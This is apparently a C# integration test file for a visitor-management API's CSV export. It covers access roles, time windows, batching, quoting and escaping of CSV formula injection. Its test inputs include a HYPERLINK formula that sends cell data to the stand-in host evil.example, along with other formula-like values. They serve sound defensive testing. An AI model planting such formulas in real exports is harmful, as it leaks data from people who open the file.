using System.Globalization;
using System.Net;
using CleanVisitors.Infrastructure.Persistence;
using CleanVisitors.IntegrationTests.Infrastructure;
using Npgsql;

namespace CleanVisitors.IntegrationTests.Visits;

[Collection(ApiVisitsCollection.Name)]
public sealed class ExportVisitsTests(ApiFactory factory) : ApiTest(factory)
{
    private const string Header = "id,siteId,status,purpose,visitorName,visitorPhone,visitorCompany,hostName,badgeCode,createdAt,approvedAt,checkedInAt,checkedOutAt";
    private static readonly DateTimeOffset Ten = new(2030, 1, 1, 10, 0, 0, TimeSpan.Zero);

    [Theory]
    [InlineData("Receptionist")]
    [InlineData("Host")]
    public async Task Export_AsNonAdmin_Returns403(string role)
    {
        var (_, client) = await Data.SignedInAsync(role);

        var response = await client.GetAsync("/api/visits/export");

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
    }

    [Fact]
    public async Task Export_WithoutToken_Returns401()
    {
        var response = await Data.Anonymous.GetAsync("/api/visits/export");

        Assert.Equal(HttpStatusCode.Unauthorized, response.StatusCode);
    }

    [Fact]
    public async Task Export_WithNoVisits_ReturnsTextCsvWithOnlyTheHeaderRow()
    {
        var response = await Data.Admin.GetAsync("/api/visits/export");

        await TestData.Expect(response, HttpStatusCode.OK);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        var text = await response.Content.ReadAsStringAsync();
        Assert.Equal([[.. Header.Split(',')]], Csv.Parse(text));
        Assert.StartsWith(Header + "\r\n", text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Export_HeaderRow_IsExactlyTheContractsColumns()
    {
        var host = await Data.UserAsync("Host");
        await Data.PendingVisitAsync(host.Id);

        var rows = await ExportAsync("");

        Assert.Equal(Header, string.Join(',', rows[0]));
        Assert.Equal(2, rows.Count);
        Assert.All(rows, row => Assert.Equal(13, row.Count));
    }

    [Fact]
    public async Task Export_WritesOneRowPerVisitCreatedInTheHalfOpenIntervalOldestFirst()
    {
        var host = await Data.UserAsync("Host");
        var before = await VisitCreatedAtAsync(host.Id, Ten.AddTicks(-10));
        var atFrom = await VisitCreatedAtAsync(host.Id, Ten);
        var inside = await VisitCreatedAtAsync(host.Id, Ten.AddMinutes(30));
        var atTo = await VisitCreatedAtAsync(host.Id, Ten.AddHours(1));

        var rows = await ExportAsync($"?from={VisitHttp.Query(Ten)}&to={VisitHttp.Query(Ten.AddHours(1))}");

        var ids = rows.Skip(1).Select(r => Guid.Parse(r[0])).ToList();
        Assert.Equal([atFrom, inside], ids);
        Assert.DoesNotContain(before, ids);
        Assert.DoesNotContain(atTo, ids);
    }

    [Fact]
    public async Task Export_RowValues_MatchTheVisit()
    {
        var host = await Data.UserAsync("Host", "Hanna Host");
        var visitor = await Data.VisitorAsync("Vera Visitor", "Acme");
        var pending = await Data.PendingVisitAsync(host.Id, visitor.Id, "Quarterly review");
        await Data.TransitionAsync(pending.Id, "approve");
        await Data.TransitionAsync(pending.Id, "check-in");
        var visit = await Data.TransitionAsync(pending.Id, "check-out");

        var row = Assert.Single((await ExportAsync("")).Skip(1));

        Assert.Equal(visit.Id, Guid.Parse(row[0]));
        Assert.Equal(visit.SiteId, Guid.Parse(row[1]));
        Assert.Equal("CheckedOut", row[2]);
        Assert.Equal("Quarterly review", row[3]);
        Assert.Equal("Vera Visitor", row[4]);
        Assert.Equal("'" + visitor.PhoneNumber, row[5]);
        Assert.Equal("Acme", row[6]);
        Assert.Equal("Hanna Host", row[7]);
        Assert.Equal(visit.BadgeCode, row[8]);
        Assert.Equal(visit.CreatedAt, Time(row[9]));
        Assert.Equal(visit.ApprovedAt, Time(row[10]));
        Assert.Equal(visit.CheckedInAt, Time(row[11]));
        Assert.Equal(visit.CheckedOutAt, Time(row[12]));
        Assert.All(row.Skip(9), cell => Assert.EndsWith("Z", cell, StringComparison.Ordinal));
    }

    [Fact]
    public async Task Export_TimesNotReachedYet_AreEmptyCells()
    {
        var host = await Data.UserAsync("Host");
        var visitor = await Data.VisitorAsync("Vera Visitor");
        await Data.PendingVisitAsync(host.Id, visitor.Id);

        var row = Assert.Single((await ExportAsync("")).Skip(1));

        Assert.Equal("PendingApproval", row[2]);
        Assert.Equal("", row[6]);
        Assert.NotEqual("", row[9]);
        Assert.Equal(["", "", ""], row.Skip(10));
    }

    [Theory]
    [InlineData("Meeting;=1+2;x")]
    [InlineData("Meeting; room 2")]
    public async Task Export_CellWithASemicolon_IsQuoted(string purpose)
    {
        // A spreadsheet that splits on semicolons would otherwise start a new cell, here a formula, inside the cell.
        // (Tabs are quoted too; no field of the export accepts one.)
        var host = await Data.UserAsync("Host");
        await Data.PendingVisitAsync(host.Id, purpose: purpose);

        var csv = await Data.Admin.GetStringAsync("/api/visits/export");

        Assert.Contains(",\"" + purpose + "\",", csv, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")")]
    [InlineData("@SUM(1)")]
    [InlineData("-2+3")]
    [InlineData("+1 extra guest")]
    public async Task Export_PurposeThatLooksLikeAFormula_IsEscapedWithALeadingQuote(string purpose)
    {
        var host = await Data.UserAsync("Host");
        await Data.PendingVisitAsync(host.Id, purpose: purpose);

        var row = Assert.Single((await ExportAsync("")).Skip(1));

        Assert.Equal("'" + purpose, row[3]);
    }

    [Fact]
    public async Task Export_NamesAndPhoneNumbersThatStartLikeAFormula_AreEscaped()
    {
        var host = await Data.UserAsync("Host", "-Host With Dash");
        var visitor = await Data.VisitorAsync("-Dashing Visitor", "-Minus Corp");
        await Data.PendingVisitAsync(host.Id, visitor.Id, "Meeting");

        var row = Assert.Single((await ExportAsync("")).Skip(1));

        Assert.Equal("Meeting", row[3]);
        Assert.Equal("'-Dashing Visitor", row[4]);
        Assert.StartsWith("'+", row[5], StringComparison.Ordinal);
        Assert.Equal("'" + visitor.PhoneNumber, row[5]);
        Assert.Equal("'-Minus Corp", row[6]);
        Assert.Equal("'-Host With Dash", row[7]);
    }

    [Fact]
    public async Task Export_CellsWithCommasAndQuotes_AreQuotedPerRfc4180()
    {
        var host = await Data.UserAsync("Host", "Hanna Host");
        var visitor = await Data.VisitorAsync("O'Brien, Pat", "Acme, Inc.");
        const string Purpose = "Say \"hi\", then sign";
        await Data.PendingVisitAsync(host.Id, visitor.Id, Purpose);

        var response = await Data.Admin.GetAsync("/api/visits/export");
        var text = await response.Content.ReadAsStringAsync();

        var row = Assert.Single(Csv.Parse(text).Skip(1));
        Assert.Equal(13, row.Count);
        Assert.Equal(Purpose, row[3]);
        Assert.Equal("O'Brien, Pat", row[4]);
        Assert.Equal("Acme, Inc.", row[6]);
        Assert.Contains("\"Say \"\"hi\"\", then sign\"", text, StringComparison.Ordinal);
        Assert.Contains("\"Acme, Inc.\"", text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Export_OfThousandsOfVisits_WritesEveryRow()
    {
        var host = await Data.UserAsync("Host");
        await Data.InsertCheckedOutVisitsAsync(3000, host.Id, Ten);

        var all = await ExportAsync("");
        var window = await ExportAsync($"?from={VisitHttp.Query(Ten)}&to={VisitHttp.Query(Ten.AddSeconds(2500))}");

        Assert.Equal(3001, all.Count);
        Assert.Equal(3000, all.Skip(1).Select(r => r[0]).Distinct(StringComparer.Ordinal).Count());
        Assert.All(all, row => Assert.Equal(13, row.Count));
        Assert.Equal(2501, window.Count);
        Assert.Equal(Ten, Time(window[1][9]));
        Assert.Equal(Ten.AddSeconds(2499), Time(window[^1][9]));
    }

    [Fact]
    public async Task Export_WhenVisitsShareACreatedAtAcrossTheReadBatches_WritesEachOnceInOrder()
    {
        const int batchSize = 1_000;
        var host = await Data.UserAsync("Host");
        await Data.InsertCheckedOutVisitsAsync(2_100, host.Id, Ten);
        // Around both boundaries of the read batches (the first holds 500 rows, the others batchSize), 21 visits share one createdAt.
        await using (var connection = new NpgsqlConnection(Factory.ConnectionString))
        {
            await connection.OpenAsync();
            await using var command = new NpgsqlCommand(
                "UPDATE visits SET created_at = @first + interval '490 seconds' WHERE created_at BETWEEN @first + interval '490 seconds' AND @first + interval '510 seconds';" +
                "UPDATE visits SET created_at = @first + interval '1490 seconds' WHERE created_at BETWEEN @first + interval '1490 seconds' AND @first + interval '1510 seconds'",
                connection);
            command.Parameters.AddWithValue("first", Ten);
            await command.ExecuteNonQueryAsync();
        }

        await using var dataSource = NpgsqlDataSource.Create(Factory.ConnectionString);
        var source = new VisitExportSource(dataSource, batchSize);
        var rows = await source.ReadAsync(null, null, CancellationToken.None).ToListAsync();
        var window = await source.ReadAsync(Ten.AddSeconds(490), Ten.AddSeconds(1495), CancellationToken.None).ToListAsync();

        Assert.Equal(2_100, rows.Count);
        Assert.Equal(2_100, rows.Select(r => r.Id).Distinct().Count());
        var times = rows.Select(r => r.CreatedAt).ToList();
        Assert.Equal(times.Order(), times);
        Assert.Equal(21, times.Count(t => t == Ten.AddSeconds(490)));
        Assert.Equal(21, times.Count(t => t == Ten.AddSeconds(1490)));
        Assert.Equal(rows.Where(r => r.CreatedAt >= Ten.AddSeconds(490) && r.CreatedAt < Ten.AddSeconds(1495)).Select(r => r.Id), window.Select(r => r.Id));
        Assert.Equal((await ExportAsync("")).Skip(1).Select(r => r[0]), rows.Select(r => r.Id.ToString()));
    }

    [Fact]
    public async Task Export_ClientStopsReadingMidway_LaterExportsAreWhole()
    {
        // The client goes away in the middle of the download: nothing of it (a connection, a batch) outlives it.
        var host = await Data.UserAsync("Host");
        await Data.InsertCheckedOutVisitsAsync(4_100, host.Id, Ten);
        for (var i = 0; i < 3; i++)
        {
            using var response = await Data.Admin.GetAsync("/api/visits/export", HttpCompletionOption.ResponseHeadersRead);
            using var reader = new StreamReader(await response.Content.ReadAsStreamAsync());
            Assert.NotNull(await reader.ReadLineAsync());
        }

        for (var i = 0; i < 3; i++)
        {
            Assert.Equal(4_101, (await ExportAsync("")).Count);
        }
    }

    [Theory]
    [InlineData("2030-01-01T10:00:00Z", "2030-01-01T10:00:00Z")]
    [InlineData("2030-01-02T10:00:00Z", "2030-01-01T10:00:00Z")]
    public async Task Export_WithToNotAfterFrom_Returns400(string from, string to)
    {
        var response = await Data.Admin.GetAsync($"/api/visits/export?from={Uri.EscapeDataString(from)}&to={Uri.EscapeDataString(to)}");

        await response.ProblemAsync(HttpStatusCode.BadRequest);
    }

    private static DateTimeOffset? Time(string cell) =>
        cell.Length == 0 ? null : DateTimeOffset.Parse(cell, CultureInfo.InvariantCulture, DateTimeStyles.AssumeUniversal);

    private async Task<List<List<string>>> ExportAsync(string query)
    {
        var response = await Data.Admin.GetAsync("/api/visits/export" + query);
        await TestData.Expect(response, HttpStatusCode.OK);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        return Csv.Parse(await response.Content.ReadAsStringAsync());
    }

    private async Task<Guid> VisitCreatedAtAsync(Guid hostId, DateTimeOffset createdAt)
    {
        var visit = await Data.PendingVisitAsync(hostId);
        await Data.SetVisitCreatedAtAsync(visit.Id, createdAt);
        return visit.Id;
    }
}
